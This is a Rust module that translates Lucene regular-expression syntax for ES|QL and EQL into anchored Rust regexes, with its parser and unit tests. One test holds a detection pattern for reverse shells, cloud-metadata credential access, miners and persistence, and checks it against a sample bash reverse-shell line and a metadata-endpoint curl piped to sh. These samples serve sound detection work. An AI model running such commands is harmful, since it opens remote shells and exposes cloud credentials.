//! Lucene `RegExp` syntax (used by ES|QL `RLIKE` and EQL `regex`) translated to an anchored
//! [`regex::Regex`].
//!
//! # Syntax (Lucene 10 `org.apache.lucene.util.automaton.RegExp`)
//!
//! ```text
//! union   := inter ('|' inter)*
//! inter   := concat ('&' concat)*                  intersection  (rejected, see below)
//! concat  := repeat+                                stops before ')', '|', '&'
//! repeat  := compl ('?' | '*' | '+' | '{' n '}' | '{' n ',' '}' | '{' n ',' m '}')*
//! compl   := '~' compl | charclass                  complement    (rejected, see below)
//! charclass := '[' '^'? item+ ']' | simple
//! item    := '\' letter-or-\ (\d \D \s \S \w \W \\)  |  '\' other (that char)
//!          | char ('-' char)?
//! simple  := '.' | '#' | '@' | '"' chars '"' | '(' ')' | '(' union ')'
//!          | '<' n '-' m '>' | '<' identifier '>' | '\' letter-or-\ | char
//! char    := '\'? any character
//! ```
//!
//! Meaning: `.` any character (newline included); `@` any string; `#` the empty language;
//! `"..."` a literal string (no escapes inside); `()` the empty string; `<n-m>` a decimal
//! integer in `[n, m]` (if `n` and `m` have the same number of digits, exactly that many digits,
//! zero-padded; otherwise up to the digits of the larger bound, leading zeros allowed);
//! `\d` = `[0-9]`, `\s` = `[\t\n\r ]`, `\w` = `[0-9A-Z_a-z]` and their upper-case complements;
//! `\` before any other letter is an error ("invalid character class"), before anything else it
//! makes that character literal (so `\n` is *not* a newline escape but an error, and `\"` is a
//! quote). A reserved character in a position where it cannot act as an operator is a literal
//! (a leading `*`, `?`, `+`, `{` or `|`).
//!
//! **The whole value must match: Lucene regular expressions are always anchored.** There are no
//! anchors: `^` and `$` are ordinary characters (`"^a"` matches the two-character string `^a`).
//! Lazy quantifiers do not exist as such: `.*?` is `(.*)?`, which matches the same strings.
//!
//! ES|QL `RLIKE` enables all optional syntax: Elasticsearch builds
//! `new RegExp(pattern, RegExp.ALL | RegExp.DEPRECATED_COMPLEMENT)` (`RLikePattern`), i.e.
//! intersection `&`, complement `~`, `#`, `@`, intervals `<n-m>` and named automata `<name>`.
//! Complement and intersection have no `regex` crate equivalent and named automata need a
//! provider Elasticsearch does not configure: all three are reported as errors
//! (code `lucene_regex::unsupported`). Syntax errors use Lucene's messages
//! (code `lucene_regex::syntax`).
//!
//! Matching is case-sensitive unless built with `case_insensitive` (Lucene's `CASE_INSENSITIVE`
//! match flag, used by EQL `regex~`): then single characters and strings match their simple
//! upper/lower-case variants, while ranges such as `[a-z]` are not folded, as in Lucene.
//!
//! Sources: Elasticsearch "Regular expression syntax"
//! (<https://www.elastic.co/docs/reference/query-languages/query-dsl/regexp-syntax>) and the Lucene
//! `RegExp` parser.

use regex::{Regex, RegexBuilder};

/// Upper bound on the compiled program size.
pub const REGEX_SIZE_LIMIT: usize = 4 << 20;
const MAX_NESTING: usize = 100;

/// Why a pattern cannot be used.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LuceneRegexError {
    /// `lucene_regex::syntax` (Lucene rejects it too) or `lucene_regex::unsupported`.
    pub code: &'static str,
    /// Explanation.
    pub message: String,
}

fn syntax<T>(message: impl Into<String>) -> Result<T, LuceneRegexError> {
    Err(LuceneRegexError {
        code: "lucene_regex::syntax",
        message: message.into(),
    })
}

fn unsupported<T>(message: impl Into<String>) -> Result<T, LuceneRegexError> {
    Err(LuceneRegexError {
        code: "lucene_regex::unsupported",
        message: message.into(),
    })
}

/// A compiled, anchored Lucene regular expression.
#[derive(Clone, Debug)]
pub struct LuceneRegex {
    regex: Regex,
}

impl LuceneRegex {
    /// Parses `pattern` as Lucene `RegExp` syntax with all optional features enabled.
    pub fn new(pattern: &str, case_insensitive: bool) -> Result<LuceneRegex, LuceneRegexError> {
        let chars: Vec<char> = pattern.chars().collect();
        let mut p = Parser {
            chars,
            pos: 0,
            depth: 0,
            ci: case_insensitive,
        };
        let body = if p.chars.is_empty() {
            String::new()
        } else {
            p.union()?
        };
        if p.pos < p.chars.len() {
            return syntax(format!("end-of-string expected at position {}", p.pos));
        }
        let regex = RegexBuilder::new(&format!("\\A(?:{body})\\z"))
            .size_limit(REGEX_SIZE_LIMIT)
            .dfa_size_limit(REGEX_SIZE_LIMIT)
            .build()
            .map_err(|e| LuceneRegexError {
                code: "lucene_regex::unsupported",
                message: format!(
                    "pattern too large to compile: {}",
                    e.to_string().lines().last().unwrap_or("")
                ),
            })?;
        Ok(LuceneRegex { regex })
    }

    /// Whether the whole of `value` matches.
    pub fn is_match(&self, value: &str) -> bool {
        self.regex.is_match(value)
    }

    /// The translated `regex` expression.
    pub fn as_regex(&self) -> &str {
        self.regex.as_str()
    }
}

struct Parser {
    chars: Vec<char>,
    pos: usize,
    depth: usize,
    ci: bool,
}

fn lit(c: char) -> String {
    regex::escape(c.encode_utf8(&mut [0u8; 4]))
}

fn class_char(c: char) -> String {
    format!("\\x{{{:X}}}", c as u32)
}

/// Simple case variants of `c` (itself first).
fn case_variants(c: char) -> Vec<char> {
    let mut v = vec![c];
    for alt in [
        c.to_lowercase().collect::<Vec<_>>(),
        c.to_uppercase().collect::<Vec<_>>(),
    ] {
        if let [one] = alt.as_slice()
            && !v.contains(one)
        {
            v.push(*one);
        }
    }
    v
}

/// Explicit ranges of a predefined class `\d \D \s \S \w \W` (Lucene 10 `expandPreDefined`).
fn predefined(c: char) -> Vec<(char, char)> {
    const MAX: char = char::MAX;
    match c {
        'd' => vec![('0', '9')],
        'D' => vec![('\0', '/'), (':', MAX)],
        's' => vec![('\t', '\n'), ('\r', '\r'), (' ', ' ')],
        'S' => vec![
            ('\0', '\u{8}'),
            ('\u{b}', '\u{c}'),
            ('\u{e}', '\u{1f}'),
            ('!', MAX),
        ],
        'w' => vec![('0', '9'), ('A', 'Z'), ('_', '_'), ('a', 'z')],
        _ => vec![('\0', '/'), (':', '@'), ('[', '^'), ('`', '`'), ('{', MAX)],
    }
}

fn ranges_class(ranges: &[(char, char)], negated: bool) -> String {
    let mut s = String::from(if negated { "[^" } else { "[" });
    for &(a, b) in ranges {
        s.push_str(&class_char(a));
        if a != b {
            s.push('-');
            s.push_str(&class_char(b));
        }
    }
    s.push(']');
    s
}

impl Parser {
    fn more(&self) -> bool {
        self.pos < self.chars.len()
    }

    fn peek_in(&self, set: &str) -> bool {
        self.chars.get(self.pos).is_some_and(|c| set.contains(*c))
    }

    fn eat(&mut self, c: char) -> bool {
        if self.chars.get(self.pos) == Some(&c) {
            self.pos += 1;
            return true;
        }
        false
    }

    fn next(&mut self) -> Result<char, LuceneRegexError> {
        match self.chars.get(self.pos) {
            Some(&c) => {
                self.pos += 1;
                Ok(c)
            }
            None => syntax("unexpected end-of-string"),
        }
    }

    fn union(&mut self) -> Result<String, LuceneRegexError> {
        self.depth += 1;
        if self.depth > MAX_NESTING {
            return unsupported(format!(
                "regular expression nested more than {MAX_NESTING} levels deep"
            ));
        }
        let mut alts = vec![self.inter()?];
        while self.eat('|') {
            alts.push(self.inter()?);
        }
        self.depth -= 1;
        Ok(if alts.len() == 1 {
            alts.pop().unwrap_or_default()
        } else {
            format!("(?:{})", alts.join("|"))
        })
    }

    fn inter(&mut self) -> Result<String, LuceneRegexError> {
        let e = self.concat()?;
        if self.eat('&') {
            self.concat()?;
            return unsupported(
                "intersection (&) is not supported; escape it as \\& to match a literal '&'",
            );
        }
        Ok(e)
    }

    fn concat(&mut self) -> Result<String, LuceneRegexError> {
        let mut out = self.repeat()?;
        while self.more() && !self.peek_in(")|&") {
            out.push_str(&self.repeat()?);
        }
        Ok(out)
    }

    fn repeat(&mut self) -> Result<String, LuceneRegexError> {
        let mut e = self.compl()?;
        while self.peek_in("?*+{") {
            let c = self.next()?;
            let q = match c {
                '?' => "?".to_string(),
                '*' => "*".to_string(),
                '+' => "+".to_string(),
                _ => {
                    let n = self.integer()?;
                    let m = if self.eat(',') {
                        if self.peek_in("0123456789") {
                            Some(self.integer()?)
                        } else {
                            None
                        }
                    } else {
                        Some(n)
                    };
                    if !self.eat('}') {
                        return syntax(format!("expected '}}' at position {}", self.pos));
                    }
                    match m {
                        Some(m) if n > m => {
                            return syntax(format!(
                                "invalid repetition range(out of order): {n}..{m}"
                            ));
                        }
                        Some(m) if m == n => format!("{{{n}}}"),
                        Some(m) => format!("{{{n},{m}}}"),
                        None => format!("{{{n},}}"),
                    }
                }
            };
            e = format!("(?:{e}){q}");
        }
        Ok(e)
    }

    fn integer(&mut self) -> Result<u32, LuceneRegexError> {
        let start = self.pos;
        while self.peek_in("0123456789") {
            self.pos += 1;
        }
        if start == self.pos {
            return syntax(format!("integer expected at position {}", self.pos));
        }
        let text: String = self.chars[start..self.pos].iter().collect();
        match text.parse::<i32>() {
            Ok(v) => Ok(v.unsigned_abs()),
            Err(_) => syntax(format!("Pattern repeat count is out of range: {text}")),
        }
    }

    fn compl(&mut self) -> Result<String, LuceneRegexError> {
        if self.eat('~') {
            self.depth += 1;
            if self.depth > MAX_NESTING {
                return unsupported("regular expression nested too deeply");
            }
            self.compl()?;
            return unsupported(
                "complement (~) is not supported; escape it as \\~ to match a literal '~'",
            );
        }
        self.char_class_exp()
    }

    fn char_class_exp(&mut self) -> Result<String, LuceneRegexError> {
        if self.eat('[') {
            let negated = self.eat('^');
            let class = self.char_classes(negated)?;
            if !self.eat(']') {
                return syntax(format!("expected ']' at position {}", self.pos));
            }
            return Ok(class);
        }
        self.simple()
    }

    fn char_exp(&mut self) -> Result<char, LuceneRegexError> {
        self.eat('\\');
        self.next()
    }

    fn char_classes(&mut self, negated: bool) -> Result<String, LuceneRegexError> {
        let mut ranges: Vec<(char, char)> = Vec::new();
        loop {
            if self.eat('\\') {
                match self.chars.get(self.pos) {
                    Some(&c) if c == '\\' || c.is_ascii_alphabetic() => {
                        self.pos += 1;
                        ranges.extend(self.predefined_or_error(c)?);
                    }
                    _ => {
                        let c = self.next()?;
                        ranges.push((c, c));
                    }
                }
            } else {
                let c = self.char_exp()?;
                if self.eat('-') {
                    let to = self.char_exp()?;
                    if c > to {
                        return syntax(format!(
                            "invalid range: from ({}) cannot be > to ({})",
                            c as u32, to as u32
                        ));
                    }
                    ranges.push((c, to));
                } else if self.ci {
                    ranges.extend(case_variants(c).into_iter().map(|v| (v, v)));
                } else {
                    ranges.push((c, c));
                }
            }
            if !self.more() || self.peek_in("]") {
                break;
            }
        }
        Ok(ranges_class(&ranges, negated))
    }

    /// After `\`: `\\`, `\d \D \s \S \w \W`, or the "invalid character class" error.
    fn predefined_or_error(&self, c: char) -> Result<Vec<(char, char)>, LuceneRegexError> {
        match c {
            '\\' => Ok(vec![('\\', '\\')]),
            'd' | 'D' | 's' | 'S' | 'w' | 'W' => Ok(predefined(c)),
            other => syntax(format!("invalid character class \\{other}")),
        }
    }

    fn literal(&self, c: char) -> String {
        if self.ci {
            let v = case_variants(c);
            if v.len() > 1 {
                return ranges_class(&v.into_iter().map(|x| (x, x)).collect::<Vec<_>>(), false);
            }
        }
        lit(c)
    }

    fn simple(&mut self) -> Result<String, LuceneRegexError> {
        if self.eat('.') {
            return Ok("(?s:.)".into());
        }
        if self.eat('#') {
            // the empty language: a class with no members never matches
            return Ok("[^\\x{0}-\\x{10FFFF}]".into());
        }
        if self.eat('@') {
            return Ok("(?s:.*)".into());
        }
        if self.eat('"') {
            let mut s = String::new();
            while self.more() && !self.peek_in("\"") {
                let c = self.next()?;
                s.push_str(&self.literal(c));
            }
            if !self.eat('"') {
                return syntax(format!("expected '\"' at position {}", self.pos));
            }
            return Ok(format!("(?:{s})"));
        }
        if self.eat('(') {
            if self.eat(')') {
                return Ok("(?:)".into());
            }
            let e = self.union()?;
            if !self.eat(')') {
                return syntax(format!("expected ')' at position {}", self.pos));
            }
            return Ok(format!("(?:{e})"));
        }
        if self.eat('<') {
            let start = self.pos;
            while self.more() && !self.peek_in(">") {
                self.pos += 1;
            }
            if !self.eat('>') {
                return syntax(format!("expected '>' at position {}", self.pos));
            }
            let s: String = self.chars[start..self.pos - 1].iter().collect();
            return interval(&s, self.pos - 1);
        }
        if self.chars.get(self.pos) == Some(&'\\') {
            self.pos += 1;
            if let Some(&c) = self
                .chars
                .get(self.pos)
                .filter(|c| **c == '\\' || c.is_ascii_alphabetic())
            {
                self.pos += 1;
                let ranges = self.predefined_or_error(c)?;
                return Ok(if c == '\\' {
                    lit('\\')
                } else {
                    ranges_class(&ranges, false)
                });
            }
        }
        let c = self.char_exp()?;
        Ok(self.literal(c))
    }
}

/// `<n-m>` numeric interval, or a named automaton (unsupported).
fn interval(s: &str, at: usize) -> Result<String, LuceneRegexError> {
    let Some(i) = s.find('-') else {
        return unsupported(format!(
            "named automaton <{s}> is not supported (Elasticsearch has no automaton provider: '{s}' not found)"
        ));
    };
    let bad = || syntax(format!("interval syntax error at position {at}"));
    if i == 0 || i == s.len() - 1 || s.rfind('-') != Some(i) {
        return bad();
    }
    let (smin, smax) = (&s[..i], &s[i + 1..]);
    let (Ok(mut lo), Ok(mut hi)) = (smin.parse::<i32>(), smax.parse::<i32>()) else {
        return bad();
    };
    if lo < 0 || hi < 0 || smin.starts_with('+') || smax.starts_with('+') {
        return bad();
    }
    let digits = if smin.len() == smax.len() {
        smin.len()
    } else {
        0
    };
    if lo > hi {
        std::mem::swap(&mut lo, &mut hi);
    }
    let (lo, hi) = (lo as u64, hi as u64);
    if digits > 0 {
        if hi.to_string().len() > digits {
            return bad();
        }
        return Ok(format!(
            "(?:{})",
            fixed_range(&pad(lo, digits), &pad(hi, digits))
        ));
    }
    // up to the width of the larger bound, leading zeros allowed
    let width = hi.to_string().len();
    let mut alts = Vec::new();
    for len in 1..=width {
        let max_at_len = 10u64.pow(len as u32) - 1;
        let top = hi.min(max_at_len);
        if lo <= top {
            alts.push(fixed_range(&pad(lo, len), &pad(top, len)));
        }
    }
    Ok(format!("(?:{})", alts.join("|")))
}

fn pad(v: u64, width: usize) -> String {
    format!("{v:0width$}")
}

/// Regex for all digit strings of the same length between `lo` and `hi` inclusive.
fn fixed_range(lo: &str, hi: &str) -> String {
    let (Some(a), Some(b)) = (lo.chars().next(), hi.chars().next()) else {
        return String::new();
    };
    let (lo_rest, hi_rest) = (&lo[1..], &hi[1..]);
    if a == b {
        return format!("{a}{}", fixed_range(lo_rest, hi_rest));
    }
    let n = lo_rest.len();
    let mut alts = vec![format!("{a}{}", fixed_range(lo_rest, &"9".repeat(n)))];
    let (a1, b1) = ((a as u8 + 1) as char, (b as u8 - 1) as char);
    if a1 <= b1 {
        alts.push(format!(
            "[{a1}-{b1}]{}",
            if n > 0 {
                format!("[0-9]{{{n}}}")
            } else {
                String::new()
            }
        ));
    }
    alts.push(format!("{b}{}", fixed_range(&"0".repeat(n), hi_rest)));
    format!("(?:{})", alts.join("|"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(p: &str, s: &str) -> bool {
        LuceneRegex::new(p, false)
            .unwrap_or_else(|e| panic!("{p}: {e:?}"))
            .is_match(s)
    }

    #[test]
    fn matching_table() {
        let cases: &[(&str, &str, bool)] = &[
            (
                ".*AdministratorAccess.*",
                "{policyArn=arn:aws:iam::aws:policy/AdministratorAccess}",
                true,
            ),
            ("AdministratorAccess", "xAdministratorAccess", false), // anchored
            ("AddPermission.*", "AddPermission20150331v2", true),
            ("abc", "abc", true),
            ("abc", "abcd", false),
            ("a.c", "a\nc", true),
            ("^a$", "^a$", true), // no anchors in Lucene
            ("^a", "a", false),
            ("a|b", "b", true),
            ("ab|cd", "cd", true),
            ("a?", "", true),
            ("a+", "aaa", true),
            ("a{2,3}", "aaaa", false),
            ("a{2,}", "aaaa", true),
            ("a{2}", "aa", true),
            ("[a-c]+", "abcabc", true),
            ("[^a-c]", "d", true),
            ("[^a-c]", "\n", true),
            ("[]a]+", "]a]", true),
            ("\\d+", "123", true),
            ("[\\d]+", "123", true),
            ("\\w+", "a_1", true),
            ("\\s", "\t", true),
            ("\\S", " ", false),
            ("\\.", ".", true),
            ("\\.", "a", false),
            ("\"a.b\"", "a.b", true),
            ("\"a.b\"", "axb", false),
            ("()", "", true),
            ("a()b", "ab", true),
            ("@", "anything at all", true),
            ("a@", "abc", true),
            ("#", "", false),
            ("#|a", "a", true),
            ("<1-10>", "7", true),
            ("<1-10>", "10", true),
            ("<1-10>", "11", false),
            ("<1-10>", "07", true),
            ("<1-10>", "007", false),
            ("<01-10>", "07", true),
            ("<01-10>", "7", false),
            ("<10-1>", "5", true),
            ("<0-255>", "255", true),
            ("<0-255>", "256", false),
            ("*a", "*a", true), // leading quantifier is a literal
            ("|a", "|a", true),
            ("a||b", "|b", true),
            (".*?", "xyz", true),
            (
                ".*\\\"Effect\\\": *\\\"Allow\\\".*",
                "{policy={\"Effect\": \"Allow\"}}",
                true,
            ),
            (".*cpu=(8192|16384)[,} ].*", "{cpu=16384, memory=1}", true),
            (".*cpu=(8192|16384)[,} ].*", "{cpu=1638, memory=1}", false),
            (
                ".*image=[-a-zA-Z0-9_]+(/|[,} :]).*",
                "{image=alpine:latest}",
                true,
            ),
            ("", "", true),
            ("", "a", false),
        ];
        for (p, s, want) in cases {
            assert_eq!(m(p, s), *want, "{p} on {s:?}");
        }
    }

    #[test]
    fn corpus_rlike_patterns_translate() {
        let p = r".*(/dev/tcp/|/dev/udp/|bash -i|sh -i|nc -e|ncat |socat |mkfifo|169\.254\.169\.254|/latest/meta-data/|/latest/api/token|\| ?sh|\| ?bash|base64 -d|import socket|pty\.spawn|perl -e|ruby -rsocket|php -r|xmrig|minerd|stratum\+|authorized_keys|/etc/cron|crontab ).*";
        let r = LuceneRegex::new(p, false).unwrap();
        assert!(r.is_match("#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
        assert!(r.is_match("curl http://169.254.169.254/latest/meta-data/ | sh"));
        assert!(!r.is_match("echo hello"));
    }

    #[test]
    fn case_insensitive_folds_chars_not_ranges() {
        let r = LuceneRegex::new("abc", true).unwrap();
        assert!(r.is_match("ABC"));
        let r = LuceneRegex::new("[a-c]", true).unwrap();
        assert!(!r.is_match("B"));
        let r = LuceneRegex::new("[ab]", true).unwrap();
        assert!(r.is_match("B"));
        let r = LuceneRegex::new("\"xy\"", true).unwrap();
        assert!(r.is_match("XY"));
        assert!(!LuceneRegex::new("abc", false).unwrap().is_match("ABC"));
    }

    #[test]
    fn errors() {
        let cases = [
            (
                "~a",
                "lucene_regex::unsupported",
                "complement (~) is not supported",
            ),
            (
                "a&b",
                "lucene_regex::unsupported",
                "intersection (&) is not supported",
            ),
            (
                "<name>",
                "lucene_regex::unsupported",
                "named automaton <name>",
            ),
            ("\\n", "lucene_regex::syntax", "invalid character class \\n"),
            (
                "[\\t]",
                "lucene_regex::syntax",
                "invalid character class \\t",
            ),
            ("(a", "lucene_regex::syntax", "expected ')' at position 2"),
            ("[a", "lucene_regex::syntax", "expected ']' at position 2"),
            (
                "a)",
                "lucene_regex::syntax",
                "end-of-string expected at position 1",
            ),
            (
                "a{x}",
                "lucene_regex::syntax",
                "integer expected at position 2",
            ),
            (
                "a{3,2}",
                "lucene_regex::syntax",
                "invalid repetition range(out of order): 3..2",
            ),
            (
                "[z-a]",
                "lucene_regex::syntax",
                "invalid range: from (122) cannot be > to (97)",
            ),
            (
                "\"open",
                "lucene_regex::syntax",
                "expected '\"' at position 5",
            ),
            ("a|", "lucene_regex::syntax", "unexpected end-of-string"),
            ("<1-2-3>", "lucene_regex::syntax", "interval syntax error"),
            ("a{99999999999}", "lucene_regex::syntax", "out of range"),
            (
                "(?:a{1000}){1000}",
                "lucene_regex::unsupported",
                "too large",
            ),
        ];
        for (p, code, msg) in cases {
            let e = LuceneRegex::new(p, false).unwrap_err();
            assert_eq!(e.code, code, "{p}: {e:?}");
            assert!(e.message.contains(msg), "{p}: {}", e.message);
        }
        // hostile nesting is an error, not a stack overflow
        let deep = format!("{}a{}", "(".repeat(5000), ")".repeat(5000));
        assert_eq!(
            LuceneRegex::new(&deep, false).unwrap_err().code,
            "lucene_regex::unsupported"
        );
        let deep = format!("{}a", "~".repeat(5000));
        assert_eq!(
            LuceneRegex::new(&deep, false).unwrap_err().code,
            "lucene_regex::unsupported"
        );
    }

    #[test]
    fn fixed_ranges() {
        let cases = [
            ("05", "17"),
            ("000", "999"),
            ("123", "456"),
            ("0", "0"),
            ("19", "20"),
        ];
        for (lo, hi) in cases {
            let r = Regex::new(&format!("^(?:{})$", fixed_range(lo, hi))).unwrap();
            let (l, h): (u32, u32) = (lo.parse().unwrap(), hi.parse().unwrap());
            let width = lo.len();
            for v in 0..10u32.pow(width as u32) {
                assert_eq!(
                    r.is_match(&format!("{v:0width$}")),
                    (l..=h).contains(&v),
                    "{lo}-{hi} at {v}"
                );
            }
        }
    }
}
